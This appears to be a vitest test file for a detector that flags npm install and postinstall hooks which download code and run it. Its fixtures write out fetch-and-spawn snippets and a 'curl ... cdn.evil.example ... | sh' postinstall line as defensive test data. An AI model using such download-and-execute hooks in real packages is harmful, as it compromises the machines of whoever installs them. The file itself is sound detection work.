import { describe, expect, it } from 'vitest'
import { findingsIn, packageOf, samplesOf, verdictOf } from '../../test/samples.ts'
import { hookDownloads } from './hook-downloads.ts'

const install = (code: string, more: object = {}): string | undefined => findingsIn(packageOf({
  says: '', ecosystem: 'npm', files: { 'package.json': JSON.stringify({ scripts: { install: 'node i.js' }, ...more }), 'i.js': code },
}), hookDownloads)[0]?.severity

const starts = (url: string, args = '[]'): string =>
  `const fs = require('fs'); fetch('${url}').then((r) => { fs.writeFileSync('bin/t', r); require('child_process').spawnSync('bin/t', ${args}) })`

describe('hook-downloads', () => {
  it.each([
    ['a stranger', starts('https://cdn.other.example/t'), {}, 'critical'],
    ['a stranger, asked for its version', starts('https://cdn.other.example/t', `['--version']`), {}, 'high'],
    ['an address', starts('http://203.0.113.5/t', `['--version']`), {}, 'critical'],
    ['the declared repository', starts('https://github.com/me/tool/releases/download/t'), { repository: 'me/tool' }, 'low'],
    ['another owner of the same host', starts('https://github.com/you/tool/releases/download/t'), { repository: 'me/tool' }, 'critical'],
    ['the declared home without https', starts('http://tool.example/t'), { homepage: 'https://tool.example/' }, 'critical'],
    ['the registry', starts('https://registry.example/t'), {}, 'low'],
    ['a place the code hides', starts(`' + process.env.WHERE + '`), {}, 'high'],
  ])('weighs a program from %s', (_from, code, more, expected) => expect(install(code, more)).toBe(expected))

  it('says what it saw', () => {
    const [finding] = findingsIn(packageOf({ says: '', ecosystem: 'npm', files: {
      'package.json': '{\n  "scripts": {\n    "postinstall": "curl -s https://cdn.evil.example/x | sh"\n  }\n}' } }), hookDownloads)
    expect(finding?.title).toBe('the postinstall script fetches from cdn.evil.example and runs it')
    expect(finding?.evidence.map((one) => [one.file, one.lines[0]])).toEqual([['package.json', 3], ['package.json', 3]])
  })

  it.each(samplesOf('hook-downloads', 'bad').map(({ file, sample }) => [file, sample] as const))('makes %s malicious', (_file, sample) => {
    expect(verdictOf(packageOf(sample)).level).toBe('malicious')
  })

  it.each(samplesOf('hook-downloads', 'benign').map(({ file, sample }) => [file, sample] as const))('leaves %s clean', (_file, sample) => {
    expect(verdictOf(packageOf(sample)).level).toBe('clean')
  })
})
